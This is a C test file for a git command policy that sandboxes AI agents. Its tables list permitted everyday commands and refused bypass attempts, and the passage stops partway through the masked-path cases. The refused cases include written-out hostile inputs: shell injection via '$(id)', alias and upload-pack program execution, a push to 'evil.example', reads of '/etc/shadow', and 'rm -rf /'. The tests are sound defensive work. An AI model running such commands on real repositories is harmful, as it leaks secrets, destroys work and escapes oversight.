/*
 * The git command policy, both ways: what agents do every day must pass,
 * and every spelling of a way around the rules must be refused by the
 * rule that names it.  One row per case; "want" pins the exact vectors for
 * the rows where the rewriting matters (vectors joined by " && ", words by
 * a space).
 */
#include <stdio.h>
#include <string.h>

#include "check.h"
#include "git-policy.h"

struct pcase {
	const char	*cmd;
	int		 ok;
	const char	*rule;	/* when refused */
	const char	*want;	/* when allowed, or NULL */
};

#define OK(c)		{ c, 1, NULL, NULL }
#define OKW(c, w)	{ c, 1, NULL, w }
#define NO(c, r)	{ c, 0, r, NULL }

/* What protects flow-state and qms-cli from "add ." and the like. */
#define EXD	" :(top,literal,exclude)flow-state " \
		":(top,literal,exclude)qms-cli"
#define EX	" --" EXD
/* What hides the masks of agent "alice" (mask = secrets) from add. */
#define MX	" :(top,literal,exclude).mcp.json " \
		":(top,literal,exclude).claude/settings.local.json " \
		":(top,literal,exclude).claude/users/bob " \
		":(top,literal,exclude)secrets"
/* And from what reads the work tree: the names of secrets too. */
#define RX	MX " :(top,exclude)*.env :(top,exclude)*.env/* " \
		":(top,exclude).env.* :(top,exclude)*/.env.*"

static const struct pcase cases[] = {
	/* Reading: every day. */
	OKW("status", "git status"),
	OKW("git status", "git status"),
	OKW("git log --oneline -10", "git log --oneline -10"),
	OKW("log -n 5", "git log --max-count=5"),
	OKW("log -n5 --oneline", "git log --max-count=5 --oneline"),
	OK("log --graph --decorate --all"),
	OKW("log --format='%h %s' -- docs/",
	    "git log --format=%h %s -- docs/"),
	OKW("log -p -- flow-state", "git log --patch -- flow-state"),
	OK("diff HEAD~1 -- flow-state"),
	OK("log --oneline -- ./qms-cli"),
	OKW("diff", "git diff"),
	OKW("diff HEAD", "git diff HEAD"),
	OKW("status -vv", "git status --verbose --verbose"),
	OKW("stash", "git stash"),
	OKW("stash save wip", "git stash save wip"),
	OK("merge --autostash topic"),
	OK("diff --cached"),
	OKW("diff --staged --stat", "git diff --staged --stat"),
	OK("diff HEAD~1..HEAD --name-only"),
	OK("diff main...feature"),
	OK("diff --word-diff HEAD"),
	OKW("diff -U5", "git diff --unified=5"),
	OK("diff --no-ext-diff --no-textconv"),
	OK("show HEAD"),
	OK("show HEAD:README.md"),
	OK("show --stat HEAD~2"),
	OK("show stash@{0}"),
	OK("show :/fix"),
	OK("blame -L 10,20 README.md"),
	OK("ls-files"),
	OKW("ls-files -o --exclude-standard",
	    "git ls-files --others --exclude-standard"),
	OK("ls-tree -r HEAD --name-only"),
	OK("rev-parse HEAD"),
	OK("rev-parse --abbrev-ref HEAD"),
	OK("rev-parse --show-toplevel"),
	OK("describe --tags --always"),
	OKW("shortlog -sn", "git shortlog --summary --numbered HEAD"),
	OKW("shortlog -sn main -- docs",
	    "git shortlog --summary --numbered main -- docs"),
	OK("grep -n TODO"),
	OK("grep -e foo -- '*.c'"),
	OK("grep 'a|b' -- docs"),
	OKW("grep ../pattern", "git grep ../pattern"),
	OK("cat-file -p HEAD"),
	OK("merge-base HEAD main"),
	OK("name-rev HEAD"),
	OK("show-ref --heads"),
	OKW("reflog", "git reflog"),
	OKW("reflog -5", "git reflog -5"),
	OKW("reflog HEAD", "git reflog HEAD"),
	OK("reflog show HEAD"),
	OKW("remote -v", "git remote --verbose"),
	OK("remote"),
	OK("remote show origin"),
	OK("remote get-url origin"),
	OK("config --get user.name"),
	OKW("config user.email", "git config --local user.email"),
	OKW("config --list", "git config --local --list"),
	OKW("config -l --show-origin", "git config --local --list "
	    "--show-origin"),
	OKW("config --blob=HEAD:.gitmodules --get-regexp path",
	    "git config --blob=HEAD:.gitmodules --get-regexp path"),
	OKW("config --worktree -l", "git config --worktree --list"),
	/* Item 11: the owner's global configuration holds credentials. */
	NO("config --global --list", "outside-repo"),
	NO("config --glob -l", "outside-repo"),
	NO("config --system -l", "outside-repo"),
	NO("config --includes -l", "outside-repo"),
	OK("config --no-includes -l"),
	/* Item 13: the owner's hooks run. */
	NO("commit -n -m x", "no-verify"),
	NO("commit -qnm x", "no-verify"),
	NO("commit --no-verify -m x", "no-verify"),
	NO("commit --no-veri -m x", "no-verify"),
	NO("push --no-verify", "no-verify"),
	NO("pull --no-verify", "no-verify"),
	NO("merge --no-verify topic", "no-verify"),
	NO("rebase --no-verify main", "no-verify"),
	OK("commit --verify -m x"),
	/* Item 1: nothing makes git look inside a nested repository. */
	NO("diff --submodule=diff", "no-submodule"),
	NO("log -p --submodule=diff", "no-submodule"),
	OK("diff --submodule=log"),
	OK("diff --submodule"),
	NO("status --ignore-submodules=none", "no-submodule"),
	NO("diff --ignore-submodules=untracked", "no-submodule"),
	OK("status --ignore-submodules=dirty"),
	OK("diff --ignore-submodules"),
	OKW("ls-remote", "git ls-remote origin"),
	OK("ls-remote --heads origin"),
	OK("version"),
	OK("check-ignore -v .env"),
	OK("count-objects -v"),
	OK("whatchanged -3"),
	OK("rev-list --count HEAD"),
	OK("cherry -v main"),
	OKW("log --author=claude --since='2 weeks ago'",
	    "git log --author=claude --since=2 weeks ago"),
	OKW("log -S'needle'", "git log -S needle"),
	OK("log --grep=fix -i"),
	OK("log HEAD@{1}"),
	OK("log --oneline main..feature"),
	OK("log HEAD@{1}..HEAD"),
	OK("status -s"),
	OK("status --porcelain=v1"),
	OKW("status -uno", "git status --untracked-files=no"),
	OKW("--no-pager log -1", "git log -1"),
	OKW("git --no-pager diff", "git diff"),
	OK("log --onel"),

	/* Changing: every day. */
	OKW("add .claude/sessions/ && commit -m 'Session notes' && push",
	    "git add .claude/sessions/ && "
	    "git commit --message=Session notes && git push origin"),
	OKW("git add .claude/sessions/ && git commit -m 'Session notes' && "
	    "git push",
	    "git add .claude/sessions/ && "
	    "git commit --message=Session notes && git push origin"),
	OKW("commit -am \"fix: x\"",
	    "git commit --include --message=fix: x" EX),
	OKW("commit --am --no-edit", "git commit --amend --no-edit"),
	OK("commit --amend -m 'x'"),
	OKW("commit -m \"line one\n\nline two\"",
	    "git commit --message=line one\n\nline two"),
	OKW("commit -m 'it'\\''s'", "git commit --message=it's"),
	OKW("commit -m \"say \\\"hi\\\"\"", "git commit --message=say \"hi\""),
	OKW("commit -m 'fix: a;b && c | d'",
	    "git commit --message=fix: a;b && c | d"),
	OKW("commit -m 'cost $5'", "git commit --message=cost $5"),
	OKW("commit -m \"cost \\$5\"", "git commit --message=cost $5"),
	NO("commit -n -m x", "no-verify"),
	OK("commit -s -m x"),
	OK("commit --no-gpg-sign -m x"),
	OK("commit --fixup=HEAD~1"),
	OKW("commit -m x -- docs/a.md", "git commit --message=x -- docs/a.md"),
	OKW("commit -m x -- .", "git commit --message=x -- ." EXD),
	OKW("commit -m '' --allow-empty-message",
	    "git commit --message= --allow-empty-message"),
	OKW("add -A", "git add --all" EX),
	OKW("add -u", "git add --update" EX),
	OKW("add .", "git add ." EX),
	OKW("add -- '*.md'", "git add -- *.md" EXD),
	OKW("add 'fl\\ow-state'", "git add fl\\ow-state" EX),
	OKW("add docs/a.md docs/b.md", "git add docs/a.md docs/b.md"),
	OK("add /abs/root/docs/a.md"),
	OK("add ./flow-stateX"),
	OK("add flow-state-notes.md"),
	OK("add -- \"file with spaces.md\""),
	OKW("push origin HEAD", "git push origin HEAD"),
	OKW("push -u origin feature", "git push --set-upstream origin feature"),
	OKW("push", "git push origin"),
	OKW("push --tags", "git push --tags origin"),
	OK("push origin main:main"),
	OK("push origin HEAD:refs/heads/cr-12"),
	OK("push --follow-tags origin main"),
	OK("push --no-force origin main"),
	OK("push -n origin"),
	OK("push origin 'refs/heads/*:refs/heads/*'"),
	OKW("fetch", "git fetch origin"),
	OK("fetch origin main"),
	OK("fetch --tags origin"),
	OKW("pull", "git pull origin"),
	OK("pull --rebase origin main"),
	OK("pull --ff-only"),
	OK("pull --no-rebase"),
	OK("branch"),
	OK("branch -a"),
	OKW("branch -vv", "git branch --verbose --verbose"),
	OK("branch cr-12"),
	OKW("branch -d cr-11", "git branch --delete cr-11"),
	OK("branch -m old new"),
	OKW("branch --merged", "git branch --merged"),
	OKW("branch --merged main", "git branch --merged=main"),
	OK("branch --show-current"),
	OKW("checkout -b cr-12", "git checkout -b cr-12"),
	OKW("checkout main", "git checkout main --"),
	OKW("checkout -", "git checkout - --"),
	OKW("checkout main --", "git checkout main --"),
	OK("checkout -b feature origin/main"),
	OK("checkout --track origin/feature"),
	OK("switch main"),
	OKW("switch -c cr-13", "git switch --create=cr-13"),
	OK("switch -"),
	OK("switch --detach HEAD~1"),
	OKW("restore --staged file.txt", "git restore --staged file.txt"),
	OKW("restore -S .", "git restore --staged ." EX),
	OKW("stash", "git stash"),
	OKW("stash push -m wip", "git stash push --message=wip"),
	OKW("stash -u", "git stash --include-untracked"),
	OK("stash list"),
	OK("stash show -p"),
	OK("stash show stash@{1}"),
	OK("stash pop"),
	OK("stash apply --index stash@{0}"),
	OKW("stash push -- docs/", "git stash push -- docs/"),
	OK("tag"),
	OK("tag -l 'v*'"),
	OK("tag v1.0"),
	OK("tag -a v1.0 -m 'release'"),
	OK("merge main"),
	OKW("merge --no-ff feature -m 'Merge feature'",
	    "git merge --no-ff feature --message=Merge feature"),
	OK("merge --abort"),
	OK("merge -s ort -X theirs main"),
	OK("rebase main"),
	OK("rebase --continue"),
	OK("rebase --abort"),
	OK("rebase --onto main feature~3 feature"),
	OK("cherry-pick abc123"),
	OK("cherry-pick -x abc123"),
	OK("revert HEAD --no-edit"),
	OK("rm docs/old.md"),
	OK("rm --cached secret.txt"),
	OKW("rm -r docs/old/", "git rm -r docs/old/"),
	OKW("rm -r .", "git rm -r ." EX),
	OK("reset"),
	OK("reset HEAD~1"),
	OK("reset --soft HEAD~1"),
	OK("reset -- docs/a.md"),
	OK("reset HEAD docs/a.md"),
	OK("bisect start"),
	OK("bisect good v1.0"),
	OK("bisect reset"),
	OK("format-patch -1 HEAD"),
	OK("format-patch --stdout -1 HEAD"),
	OKW("format-patch --no-num --stdout -1",
	    "git format-patch --no-numbered --stdout -1"),
	OK("gc"),

	/* The shell: only words and &&. */
	NO("status; id", "shell-operator"),
	NO("status;id", "shell-operator"),
	NO("status || x", "shell-operator"),
	NO("status | cat", "shell-operator"),
	NO("status &", "shell-operator"),
	NO("status > /tmp/x", "shell-operator"),
	NO("status < /dev/null", "shell-operator"),
	NO("(status)", "shell-operator"),
	NO("status && (id)", "shell-operator"),
	NO("status &&& log", "shell-operator"),
	NO("$(id)", "shell-expansion"),
	NO("`id`", "shell-expansion"),
	NO("log $HOME", "shell-expansion"),
	NO("commit -m \"$(id)\"", "shell-expansion"),
	NO("commit -m \"`id`\"", "shell-expansion"),
	NO("commit -m \"${x}\"", "shell-expansion"),
	NO("commit -m $'x'", "shell-expansion"),
	NO("add *.md", "shell-expansion"),
	NO("add doc?.md", "shell-expansion"),
	NO("add ~/x", "shell-expansion"),
	NO("commit --file=~/msg", "shell-expansion"),
	NO("add {a,b}.md", "shell-expansion"),
	NO("log HEAD@{1..3}", "shell-expansion"),
	NO("status\nid", "control-char"),
	NO("status\rid", "control-char"),
	NO("commit -m 'a\033[2Jb'", "control-char"),
	NO("status \\\n&& id", "control-char"),
	NO("commit -m 'unterminated", "shell-quoting"),
	NO("commit -m \"x", "shell-quoting"),
	NO("status \\", "shell-quoting"),
	NO("status # comment", "shell-comment"),
	NO("", "empty-command"),
	NO("   ", "empty-command"),
	NO("status &&", "empty-command"),
	NO("&& status", "empty-command"),
	NO("status && && log", "empty-command"),
	NO("git", "empty-command"),
	NO("git --no-pager", "empty-command"),

	/* Options before the subcommand. */
	NO("git -c core.pager=id log", "global-option"),
	NO("-c alias.x=!id x", "global-option"),
	NO("git -C /tmp status", "global-option"),
	NO("git --git-dir=/tmp/x status", "global-option"),
	NO("git --work-tree=/ status", "global-option"),
	NO("git --exec-path=/tmp status", "global-option"),
	NO("--namespace=x log", "global-option"),
	NO("--config-env=x=y status", "global-option"),
	NO("git -p log", "global-option"),
	NO("git --paginate log", "global-option"),
	NO("--version", "global-option"),

	/* Not on the list. */
	NO("foo", "unknown-subcommand"),
	NO("/usr/bin/id", "unknown-subcommand"),
	NO("git git status", "unknown-subcommand"),
	NO("stash frobnicate", "unknown-subcommand"),
	NO("notes add -m x", "unknown-subcommand"),
	NO("am patch.mbox", "unknown-subcommand"),
	NO("remote frob", "unknown-subcommand"),

	/* Force push, in every spelling. */
	NO("push --force", "no-force-push"),
	NO("push -f", "no-force-push"),
	NO("push -uf origin x", "no-force-push"),
	NO("push --forc", "no-force-push"),
	NO("push --for", "no-force-push"),
	NO("push --force-with-lease", "no-force-push"),
	NO("push --force-with-lease=main:abc origin", "no-force-push"),
	NO("push --force-if-includes", "no-force-push"),
	NO("push origin +main", "no-force-push"),
	NO("push origin +HEAD:main", "no-force-push"),
	NO("push origin \"+main\"", "no-force-push"),
	NO("push origin '+refs/heads/*:refs/heads/*'", "no-force-push"),
	NO("push --mirror", "no-force-push"),
	NO("pu'sh' --f'orce'", "no-force-push"),
	NO("push \"--force\"", "no-force-push"),
	NO("push origin main --force", "no-force-push"),
	NO("push origin main -- --force", "usage"),
	NO("add x && commit -m y && push -f", "no-force-push"),
	NO("push --fo", "ambiguous-option"),

	/* Deleting on the remote. */
	NO("push --delete origin x", "no-remote-delete"),
	NO("push -d origin x", "no-remote-delete"),
	NO("push --del origin x", "no-remote-delete"),
	NO("push origin :main", "no-remote-delete"),
	NO("push origin ':refs/heads/main'", "no-remote-delete"),
	NO("push --prune origin", "no-remote-delete"),

	/* Only the allowed remotes, and nothing run on them. */
	NO("push upstream main", "remote-not-allowed"),
	NO("push https://evil.example/x.git", "remote-not-allowed"),
	NO("push 'ext::sh -c id' main", "remote-not-allowed"),
	NO("push /tmp/other", "remote-not-allowed"),
	NO("push --repo=evil", "remote-not-allowed"),
	NO("push HEAD", "remote-not-allowed"),
	NO("fetch --all", "remote-not-allowed"),
	NO("fetch evil", "remote-not-allowed"),
	NO("fetch --multiple origin evil", "remote-not-allowed"),
	NO("pull https://x.example/r main", "remote-not-allowed"),
	NO("ls-remote https://x.example/r", "remote-not-allowed"),
	NO("remote show upstream", "remote-not-allowed"),
	NO("remote update", "remote-not-allowed"),
	NO("push --receive-pack=id origin", "no-program"),
	NO("push --exec=id origin", "no-program"),
	NO("fetch --upload-pack=id origin", "no-program"),
	NO("fetch --upload-p=id origin", "no-program"),
	NO("pull --upload-pack id origin", "no-program"),
	NO("ls-remote --upload-pack=id origin", "no-program"),

	/* Throwing away uncommitted work. */
	NO("reset --hard", "no-discard"),
	NO("reset --hard HEAD~1", "no-discard"),
	NO("reset --merge", "no-discard"),
	NO("reset --keep", "no-discard"),
	NO("reset --ha", "no-discard"),
	NO("clean -fd", "no-discard"),
	NO("clean -n", "no-discard"),
	NO("checkout .", "no-discard"),
	NO("checkout ./", "no-discard"),
	NO("checkout -- file.txt", "no-discard"),
	NO("checkout -- .", "no-discard"),
	NO("checkout -f main", "no-discard"),
	NO("checkout --force main", "no-discard"),
	NO("checkout HEAD~1 -- file.txt", "no-discard"),
	NO("checkout main file.txt", "no-discard"),
	NO("checkout --ours file.txt", "no-discard"),
	NO("checkout -m main", "no-discard"),
	NO("checkout 'src/*.c'", "no-discard"),
	NO("restore file.txt", "no-discard"),
	NO("restore .", "no-discard"),
	NO("restore --staged --worktree x", "no-discard"),
	NO("restore -SW x", "no-discard"),
	NO("switch --discard-changes main", "no-discard"),
	NO("switch -f main", "no-discard"),
	NO("switch --orphan x", "no-discard"),
	NO("rm -f x", "no-discard"),
	NO("status && rm -rf /", "no-discard"),

	/* Deleting or overwriting history and refs. */
	NO("stash drop", "no-history-loss"),
	NO("stash clear", "no-history-loss"),
	NO("branch -D x", "no-history-loss"),
	NO("branch -d --force x", "no-history-loss"),
	NO("branch --delete --force x", "no-history-loss"),
	NO("branch -df x", "no-history-loss"),
	NO("branch -M a b", "no-history-loss"),
	NO("branch -C a b", "no-history-loss"),
	NO("branch -f main HEAD~3", "no-history-loss"),
	NO("checkout -B main", "no-history-loss"),
	NO("switch -C main", "no-history-loss"),
	NO("tag -d v1", "no-history-loss"),
	NO("tag -f v1", "no-history-loss"),
	NO("reflog expire --expire=now --all", "no-history-loss"),
	NO("reflog delete HEAD@{1}", "no-history-loss"),
	NO("update-ref -d refs/heads/main", "no-history-loss"),
	NO("gc --prune=now", "no-history-loss"),
	NO("prune", "no-history-loss"),
	NO("filter-branch --tree-filter id HEAD", "no-history-loss"),
	NO("fetch origin +main:main", "no-history-loss"),
	NO("fetch --prune", "no-history-loss"),
	NO("fetch -f origin", "no-history-loss"),
	NO("fetch --depth=1", "no-history-loss"),
	NO("fetch --prune-tags", "no-history-loss"),

	/* Running programs. */
	NO("rebase -x id main", "no-program"),
	NO("rebase --exec=id main", "no-program"),
	NO("rebase --exe id main", "no-program"),
	NO("bisect run id", "no-program"),
	NO("difftool", "no-program"),
	NO("mergetool", "no-program"),
	NO("log --ext-diff -p", "no-program"),
	NO("diff --ext-diff", "no-program"),
	NO("diff --textconv", "no-program"),
	NO("show --textconv HEAD", "no-program"),
	NO("cat-file --filters HEAD:x", "no-program"),
	NO("grep -O foo", "no-program"),
	NO("grep --open-files-in-pager=id foo", "no-program"),
	NO("merge -s foo main", "no-program"),
	NO("merge --strategy=../../tmp/x main", "no-program"),
	NO("daemon", "no-program"),
	NO("instaweb", "no-program"),
	NO("send-email x", "no-program"),
	NO("help log", "no-program"),

	/* Signing: gpg with the owner's keys. */
	NO("commit -S -m x", "no-signing"),
	NO("commit --gpg-sign=KEY -m x", "no-signing"),
	NO("commit -am x -S", "no-signing"),
	NO("tag -s v1 -m x", "no-signing"),
	NO("tag -u KEY v1", "no-signing"),
	NO("push --signed origin", "no-signing"),
	NO("log --show-signature", "no-signing"),
	NO("merge --verify-signatures x", "no-signing"),

	/* Configuration. */
	NO("config user.name x", "no-config-write"),
	NO("config --add x.y z", "no-config-write"),
	NO("config --unset user.name", "no-config-write"),
	NO("config -e", "no-config-write"),
	NO("config --global core.pager id", "outside-repo"),
	NO("config set user.name x", "no-config-write"),
	NO("remote add evil https://x.example/r", "no-config-write"),
	NO("remote set-url origin https://x.example/r", "no-config-write"),

	/* Submodules. */
	NO("submodule update", "no-submodule"),
	NO("pull --recurse-submodules", "no-submodule"),
	NO("push --recurse-submodules=on-demand", "no-submodule"),
	NO("checkout --recurse-submodules main", "no-submodule"),
	NO("fetch --recurse-submodules", "no-submodule"),

	/* No terminal. */
	NO("rebase -i HEAD~3", "no-interactive"),
	NO("rebase --interactive main", "no-interactive"),
	NO("add -p", "no-interactive"),
	NO("add -i", "no-interactive"),
	NO("add -e", "no-interactive"),
	NO("commit --interactive", "no-interactive"),
	NO("reset -p", "no-interactive"),
	NO("stash -p", "no-interactive"),
	NO("branch --edit-description", "no-interactive"),
	NO("pull --rebase=interactive", "no-interactive"),

	/* Outside the repository. */
	NO("add ../outside", "outside-repo"),
	NO("add /etc/passwd", "outside-repo"),
	NO("add /abs/rootX/file", "outside-repo"),
	NO("add /abs/root/../other/x", "outside-repo"),
	NO("add docs/../../x", "outside-repo"),
	NO("diff /etc/passwd /etc/shadow", "outside-repo"),
	NO("diff --no-index a b", "outside-repo"),
	NO("grep --no-index foo", "outside-repo"),
	NO("grep --no-ind foo", "outside-repo"),
	NO("log --output=/tmp/x", "outside-repo"),
	NO("diff --output=x", "outside-repo"),
	NO("rev-parse --git-dir", "outside-repo"),
	NO("worktree add /tmp/x", "outside-repo"),
	NO("clone https://x.example/r", "outside-repo"),
	NO("log -- ../x", "outside-repo"),
	NO("status ../", "outside-repo"),
	NO("show HEAD -- /etc", "outside-repo"),
	NO("checkout ../x", "outside-repo"),

	/* Protected paths, however spelt. */
	NO("add flow-state", "protected-path"),
	NO("add ./flow-state", "protected-path"),
	NO("add flow-state/", "protected-path"),
	NO("add a/../flow-state", "protected-path"),
	NO("add flow-state/.", "protected-path"),
	NO("add ./flow-state/x", "protected-path"),
	NO("add /abs/root/flow-state", "protected-path"),
	NO("add //abs//root//flow-state", "protected-path"),
	NO("add /abs/root/./qms-cli/", "protected-path"),
	NO("add -- qms-cli", "protected-path"),
	NO("add 'flow-state/*'", "protected-path"),
	NO("add x && add flow-state", "protected-path"),
	NO("rm flow-state", "protected-path"),
	NO("rm -r --cached qms-cli", "protected-path"),
	NO("commit -m x -- flow-state", "protected-path"),
	NO("commit -m x flow-state", "protected-path"),
	NO("restore --staged flow-state", "protected-path"),
	NO("stash push -- flow-state", "protected-path"),
	NO("reset flow-state", "protected-path"),
	NO("reset -- ./qms-cli", "protected-path"),
	NO("reset HEAD~1 -- flow-state", "protected-path"),
	NO("checkout flow-state", "protected-path"),

	/*
	 * Files by name, and mv: git follows symbolic links there, and the
	 * agent can make them in its own directories.
	 */
	NO("commit -F .git/COMMIT_EDITMSG", "no-file-option"),
	NO("commit -F .claude/sessions/msg.txt", "no-file-option"),
	NO("commit -F -", "no-file-option"),
	NO("commit -F /etc/passwd", "no-file-option"),
	NO("commit --file=../x", "no-file-option"),
	NO("commit --fil=x", "no-file-option"),
	NO("commit -t /etc/passwd", "no-file-option"),
	NO("commit --template=../x", "no-file-option"),
	NO("merge -F msg main", "no-file-option"),
	NO("tag -a v1 -F msg", "no-file-option"),
	NO("format-patch -o patches/ main", "no-file-option"),
	NO("format-patch -o /tmp/x HEAD~1", "no-file-option"),
	NO("format-patch -o .git/hooks HEAD~1", "no-file-option"),
	NO("format-patch --signature-file=x HEAD~1", "no-file-option"),
	NO("blame --contents /etc/passwd x", "no-file-option"),
	NO("blame --ignore-revs-file .git-blame-ignore-revs x",
	    "no-file-option"),
	NO("config -f .gitmodules --get-regexp path", "no-file-option"),
	NO("config -f /etc/gitconfig --list", "no-file-option"),
	NO("ls-files -X /etc/passwd", "no-file-option"),
	NO("diff -O/etc/passwd", "no-file-option"),
	NO("log -p -O order.txt", "no-file-option"),
	NO("grep -f /etc/passwd", "no-file-option"),
	NO("mv a.md b.md", "outside-repo"),
	NO("mv -f a b", "outside-repo"),
	NO("mv flow-state x", "outside-repo"),
	NO("mv x flow-state/y", "outside-repo"),

	/* Pathspec magic. */
	NO("add ':(top)x'", "pathspec-magic"),
	NO("add ':!x'", "pathspec-magic"),
	NO("add ':^x'", "pathspec-magic"),
	NO("add ':/x'", "pathspec-magic"),
	NO("add ':(exclude)flow-state'", "pathspec-magic"),
	NO("log -- ':!x'", "pathspec-magic"),
	NO("diff ':(icase)x'", "pathspec-magic"),
	NO("rm ':(glob)**'", "pathspec-magic"),

	/* Ignored files: .env. */
	NO("add -f .env", "ignored-files"),
	NO("add --force .env", "ignored-files"),
	NO("add --forc .env", "ignored-files"),
	NO("stash -a", "ignored-files"),
	NO("stash push --all", "ignored-files"),

	/* Options, values, arguments. */
	NO("commit --frobnicate", "unknown-option"),
	NO("log --no-index", "unknown-option"),
	NO("push --upload-pack=id", "unknown-option"),
	NO("status -h", "unknown-option"),
	NO("log --help", "unknown-option"),
	NO("log --end-of-options x", "unknown-option"),
	NO("commit --a", "ambiguous-option"),
	NO("reset --m", "ambiguous-option"),
	NO("diff --no-ind a b", "ambiguous-option"),
	NO("log --ex", "ambiguous-option"),
	NO("commit -m", "usage"),
	NO("commit --amend=x", "usage"),
	NO("add --chmod=777 x", "usage"),
	NO("switch a b c", "usage"),
	NO("reset 'f*'", "usage"),
	NO("gc foo", "usage"),
	NO("bisect", "usage"),
	NO("commit -a -m x file", "usage"),
	NO("push origin ^main", "usage"),
	NO("stash list extra", "usage"),
};

static const char *const prot[] = { "flow-state", "qms-cli" };
static const char *const origin[] = { "origin" };

static const struct git_policy policy = {
	"/abs/root", origin, 1, prot, 2, NULL, NULL, 0, NULL, NULL
};

/* The vectors as one string, for comparing with "want". */
static void
join(const struct git_verdict *v, char *buf, size_t len)
{
	size_t	i, n = 0;
	char	**a;

	buf[0] = '\0';
	for (i = 0; i < v->nargv; i++)
		for (a = v->argv[i]; *a != NULL && n < len; a++)
			n += snprintf(buf + n, len - n, "%s%s",
			    a == v->argv[i] ? (i > 0 ? " && " : "") : " ", *a);
}

static void
run(const struct git_policy *p, const struct pcase *c)
{
	struct git_verdict	v;
	char			got[2048], tail[128];
	int			r;

	r = git_policy_check(p, c->cmd, &v);
	CHECK((r == 0) == (v.allowed != 0));
	if (v.allowed != c->ok)
		fprintf(stderr, "case \"%s\": %s, want %s: %s\n", c->cmd,
		    v.allowed ? "allowed" : "refused",
		    c->ok ? "allowed" : "refused",
		    v.allowed ? "" : v.reason);
	CHECK(v.allowed == c->ok);
	if (!c->ok && !v.allowed) {
		if (strcmp(v.rule, c->rule) != 0)
			fprintf(stderr, "case \"%s\": %s\n", c->cmd, v.reason);
		CHECK_STR(v.rule, c->rule);
		CHECK(strncmp(v.reason, "Denied: ", 8) == 0);
		snprintf(tail, sizeof(tail), "(rule: %s)", c->rule);
		CHECK(strstr(v.reason, tail) != NULL);
		CHECK(v.argv == NULL && v.nargv == 0);
	}
	if (c->ok && v.allowed) {
		CHECK(v.rule == NULL);
		CHECK(v.nargv > 0);
		if (c->want != NULL) {
			join(&v, got, sizeof(got));
			if (strcmp(got, c->want) != 0)
				fprintf(stderr, "case \"%s\"\n", c->cmd);
			CHECK_STR(got, c->want);
		}
	}
	git_verdict_free(&v);
	CHECK(v.argv == NULL && v.nargv == 0);
}

/* Other policies: other remotes, no protected paths, a broken one. */
static void
other_policies(int *n)
{
	static const char *const two[] = { "origin", "upstream" };
	static const struct git_policy p2 = {
		"/abs/root/", two, 2, NULL, 0, NULL, NULL, 0, NULL, NULL
	};
	static const struct pcase c2[] = {
		OK("push upstream main"),
		OKW("fetch", "git fetch origin"),
		NO("push evil main", "remote-not-allowed"),
		OKW("commit -am x", "git commit --all --message=x"),
		OKW("add .", "git add ."),
		OK("add flow-state"),
		OK("add /abs/root/x"),
		NO("add /abs/rootx", "outside-repo"),
	};
	static const struct git_policy p3 = {
		"/", NULL, 0, NULL, 0, NULL, NULL, 0, NULL, NULL
	};
	static const struct pcase c3[] = {
		OKW("push", "git push origin"),
		NO("push upstream", "remote-not-allowed"),
		OK("add /etc/x"),
		NO("add ../x", "outside-repo"),
	};
	static const char *const bad[] = { "../elsewhere" };
	static const struct git_policy p4 = { "/abs/root", NULL, 0, bad, 1, NULL, NULL, 0, NULL, NULL };
	static const char *const abs[] = { "/abs/root/flow-state/" };
	static const struct git_policy p5 = { "/abs/root", NULL, 0, abs, 1, NULL, NULL, 0, NULL, NULL };
	static const struct git_policy p6 = { "relative", NULL, 0, NULL, 0, NULL, NULL, 0, NULL, NULL };
	static const char *const root[] = { "." };
	static const struct git_policy p7 = { "/abs/root", NULL, 0, root, 1, NULL, NULL, 0, NULL, NULL };
	size_t	i;

	for (i = 0; i < sizeof(c2) / sizeof(c2[0]); i++, (*n)++)
		run(&p2, &c2[i]);
	for (i = 0; i < sizeof(c3) / sizeof(c3[0]); i++, (*n)++)
		run(&p3, &c3[i]);
	run(&p4, &(struct pcase)NO("status", "policy-config"));
	run(&p5, &(struct pcase)NO("add ./flow-state", "protected-path"));
	run(&p6, &(struct pcase)NO("status", "policy-config"));
	run(&p7, &(struct pcase)NO("status", "policy-config"));
	*n += 4;
}

/* What an agent's commit ends with (issue 19). */
#define TR	" --trailer=QMS-Agent: alice"

/* Item 2: what the containers hide, git hides from the same agent. */
static void
agent_policy(int *n)
{
	static const char *const masks[] = { "secrets", NULL };
	static const char *const users[] = { "alice", "bob", NULL };
	static const struct git_policy pa = {
		"/abs/root", origin, 1, prot, 2, "alice", masks, 0, users, NULL
	};
	static const struct git_policy pv = {
		"/abs/root", origin, 1, prot, 2, "alice", masks, 1, users, NULL
	};
	static const struct pcase ca[] = {
		NO("grep --untracked TOKEN", "masked-path"),
		NO("grep --untracked --no-exclude-standard TOKEN",
		    "masked-path"),
		NO("grep TOKEN -- .env", "masked-path"),
		NO("grep TOKEN -- '*.env'", "masked-path"),
		NO("show HEAD -- .mcp.json", "masked-path"),
		NO("log -p -- .claude/settings.local.json", "masked-path"),
		NO("diff -- ./.claude/users/bob/workspace", "masked-path"),
		NO("add .claude/users/bob/workspace/x", "masked-path"),
		NO("add a/../deploy/.env.prod", "masked-path"),
		NO("ls-files --others", "masked-path"),
		NO("ls-files -i --exclude-standard", "masked-path"),
		NO("status --ignored", "masked-path"),
		NO("status -uall", "masked-path"),
		NO("status -- secrets/key", "masked-path"),
		NO("stash save -u", "masked-path"),
		NO("stash save wip", "masked-path"),
		NO("commit -n -m x", "no-verify"),
		OK("status"),
		/* The work tree is read through the index or a revision. */
		OKW("grep TOKEN", "git grep --cached TOKEN"),
		OKW("grep -n TOKEN", "git grep --cached --line-number TOKEN"),
		OKW("grep -e TOKEN -- docs", "git grep --cached -e TOKEN -- docs"),
		OKW("grep -e TOKEN HEAD", "git grep -e TOKEN HEAD --"),
		OKW("grep --cached TOKEN", "git grep --cached TOKEN"),
		NO("blame README.md", "masked-path"),
		NO("blame -- README.md", "masked-path"),
		OKW("blame HEAD -- README.md", "git blame HEAD -- README.md"),
		NO("blame HEAD.. -- README.md", "masked-path"),
		NO("blame HEAD... -- README.md", "masked-path"),
		NO("blame ^HEAD -- README.md", "masked-path"),
		NO("blame HEAD~3..HEAD -- README.md", "masked-path"),
		NO("blame --reverse HEAD -- README.md", "masked-path"),
		NO("blame HEAD main -- README.md", "masked-path"),
		OK("ls-files"),
		OK("add .claude/users/alice/workspace/notes.md"),
		OKW("status -unormal", "git status --untracked-files=normal"),
		OKW("add -u", "git add --update --" EXD MX),
		OKW("add .", "git add . --" EXD MX),
		OKW("stash push -u", "git stash push --include-untracked --"
		    MX),
		OKW("add README.md", "git add README.md --" MX),
		/*
		 * What reads the work tree leaves out what the container
		 * masks, however the paths are given (red team 3): a diff
		 * with the work tree on one side ends with the exclusions,
